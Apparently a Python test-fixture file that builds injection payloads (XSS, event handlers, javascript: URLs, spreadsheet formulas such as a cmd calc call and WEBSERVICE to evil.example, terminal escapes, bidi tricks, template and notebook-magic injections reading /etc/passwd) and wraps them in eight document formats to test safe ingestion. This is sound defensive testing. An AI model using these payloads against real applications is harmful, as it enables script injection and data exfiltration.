"""What strangers may write into titles, bodies, outlets and speakers, by kind; and the formats that carry it."""
# ruff: noqa: E501 - hostile inputs are long

from __future__ import annotations

import csv
import html
import io
import json
from collections.abc import Callable

OUTSIDE = "http://evil.example/"
BREACH = "window.pwned=1;alert(1)"  # what a script of a text would do, if one ran

TEXTS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{BREACH}</script>", f"</script><script>{BREACH}</script>", f"</article><script>{BREACH}</script>", f'<script src="{OUTSIDE}x.js"></script>',
        f"--><script>{BREACH}</script><!--", f"<svg><script>{BREACH}</script></svg>", f"</title></textarea></style></noscript><script>{BREACH}</script>",
    ),
    "style, link and image": (
        f"<style>@import '{OUTSIDE}x.css'; body {{ background: url({OUTSIDE}b.png) }}</style>", f'<link rel="stylesheet" href="{OUTSIDE}x.css">',
        f'<img src="{OUTSIDE}pixel.png">', f'<iframe src="{OUTSIDE}"></iframe>', f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
        f'<base href="{OUTSIDE}">', f'<object data="{OUTSIDE}x.swf"></object>', f'<video poster="{OUTSIDE}p.png" src="{OUTSIDE}v.mp4"></video>',
    ),
    "event handlers": (
        f'<img src=x onerror="{BREACH}">', f"<svg onload='{BREACH}'>", f'"><details open ontoggle={BREACH}>', f"' onmouseover='{BREACH}' x='",
        f'" autofocus onfocus="{BREACH}" tabindex="1', f"<body onpageshow={BREACH}>",
    ),
    "javascript: and data: addresses": (
        f'<a href="javascript:{BREACH}">more</a>', f"[more](javascript:{BREACH})", f"<a href='data:text/html,<script>{BREACH}</script>'>more</a>",
        f"<iframe srcdoc='<script>{BREACH}</script>'></iframe>", f"<form action='javascript:{BREACH}'><input autofocus></form>", f"![a]({OUTSIDE}a.png)",
    ),
    "control characters": ("a\x07b\x08c\x0bd\x0ce\x7ff", "a\x1bPq\x1b\\b\x9bc\x85d", "a\u2028b\u2029c\x1cd\x1de\x1ef"),
    "terminal escapes": ("\x1b[2J\x1b[1;31mred\x1b[0m", "\x1b]0;owned\x07\x1b]8;;http://evil.example\x07more\x1b]8;;\x07", "\x9b31mred", "\x1b]52;c;cm0gLXJm\x07"),
    "reversed text": ("\u202egnp.exe\u202c", "\u2066\u2067abc\u2069\u2069", "\u200f\u061cabc\u200e", "\u202a\u202b\u202d" * 50),
    "invisible and combining characters": ("a\u200bb\u200cc\u200dd\ufeffe\u2060f", "Z" + "\u0351\u0300\u0489" * 300, "\U000e0041\U000e0042\ufe0f" * 50, "\u3164\u115f\uffa0\u00ad"),
    "formulas": ("=1+1", '=HYPERLINK("http://evil.example","more")', "+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\t=1+1", "＝1+1", '=WEBSERVICE("http://evil.example")'),
    "Markdown and MyST": (
        "```{raw} html\n<script>window.pwned=1</script>\n```", "{{ config }}", "{download}`/etc/passwd`", "```{include} /etc/passwd\n```", "# A heading\n\n---",
        "$\\immediate\\write18{touch pwned}$", "[^1]: note <script>window.pwned=1</script>", "{eval-rst}`x`", "% comment", "(target)=", "+++ {\"tags\": [\"x\"]}",
    ),
    "templates and notebook magic": (
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "%run /etc/passwd", "!touch pwned", "%%bash\ntouch pwned",
        "{{ ''.__class__ }}", "'); import os; os.system('touch pwned'); ('", '"""\nimport os; os.system("touch pwned")\n"""', "${7*7}#{7*7}", "%(x)s {0} {x.__class__} %n%s",
    ),
}  # fmt: skip

SENTENCES = (
    "Germany will send {} 5,000 troops to Ukraine after a ceasefire, Chancellor Friedrich Merz said on Monday in Berlin.",
    "France said that it would not deploy ground troops to Ukraine without American support, the daily reported {}.",
    "“We will provide air defence systems,” British Prime Minister Keir Starmer told reporters in London on the {} day.",
)


def body(payload: str, number: int) -> str:
    """Prose in which the machine finds positions, with the payload in its midst."""
    return "\n\n".join(sentence.format(payload) for sentence in SENTENCES) + f"\n\nThe talks of round {number} went on until late in the evening."


def _txt(payload: str, number: int) -> bytes:
    return f"Germany {payload} promises troops\n\nAugust {number % 28 + 1}, 2025\n\n{body(payload, number)}\n".encode()


def _md(payload: str, number: int) -> bytes:
    fields = {"title": f"Germany {payload} promises troops", "outlet": payload, "author": payload, "date": "2025-09-01"}
    return ("---\n" + "\n".join(f"{name}: {json.dumps(value)}" for name, value in fields.items()) + f"\n---\n\n{body(payload, number)}\n").encode()


def _html(payload: str, number: int) -> bytes:
    shown = html.escape(payload)
    paragraphs = "".join(f"<p>{html.escape(line)}</p>" for line in body(payload, number).split("\n\n"))
    head = f'<title>{shown}</title><meta property="og:site_name" content="{shown}"><meta name="author" content="{shown}">'
    return f"<html><head>{head}</head><body>{payload}<article><h1>Germany {shown} promises</h1>{paragraphs}</article></body></html>".encode()


def _jsonl(payload: str, number: int) -> bytes:
    row = {"title": payload, "outlet": payload, "author": payload, "date": "2025-09-02", "url": f"javascript:{payload}", "text": body(payload, number)}
    return json.dumps(row).encode() + b"\n"


def _csv(payload: str, number: int) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([["title", "outlet", "author", "date", "text"], [payload, payload, payload, "2025-09-03", body(payload, number)]])
    return out.getvalue().encode()


def _eml(payload: str, number: int) -> bytes:
    subject = " ".join(payload.split())
    head = f"From: \"{subject.replace(chr(34), '')}\" <a@evil.example>\nSubject: Germany {subject}\nDate: Mon, 01 Sep 2025 10:00:00 +0000\n"
    return f"{head}Content-Type: text/plain; charset=utf-8\n\n{body(payload, number)}\n".encode()


def _rss(payload: str, number: int) -> bytes:
    shown = html.escape(html.escape(payload))
    text = html.escape("".join(f"<p>{html.escape(line)}</p>" for line in body(payload, number).split("\n\n")))
    item = f"<item><title>Germany {shown}</title><author>{shown}</author><link>javascript:alert(1)</link><description>{text}</description></item>"
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{shown}</title>{item}</channel></rss>'.encode()


def _docx(payload: str, number: int) -> bytes:
    import docx

    document = docx.Document()
    clean = "".join(sign for sign in payload if sign.isprintable() or sign in "\n\t")
    for line in (f"Germany {clean} promises troops", *body(clean, number).split("\n\n")):
        document.add_paragraph(line)
    document.core_properties.author = clean[:250]
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


CARRIERS: dict[str, Callable[[str, int], bytes]] = {
    "txt": _txt, "md": _md, "html": _html, "jsonl": _jsonl, "csv": _csv, "eml": _eml, "rss": _rss, "docx": _docx,
}  # fmt: skip
EACH = 2  # carriers of a payload; they take turns, so that every kind rides in every format


def carried() -> list[tuple[str, str, bytes]]:
    """Kind, file name and bytes of every payload in EACH of the formats."""
    names, found = list(CARRIERS), []
    for kind, payloads in TEXTS.items():
        for place, payload in enumerate(payloads):
            for turn in range(EACH):
                carrier = names[(place * EACH + turn) % len(names)]
                number = len(found)
                found.append((kind, f"{number:03d}-{kind.split()[0].strip(',:').lower()}.{carrier}", CARRIERS[carrier](payload, number)))
    return found
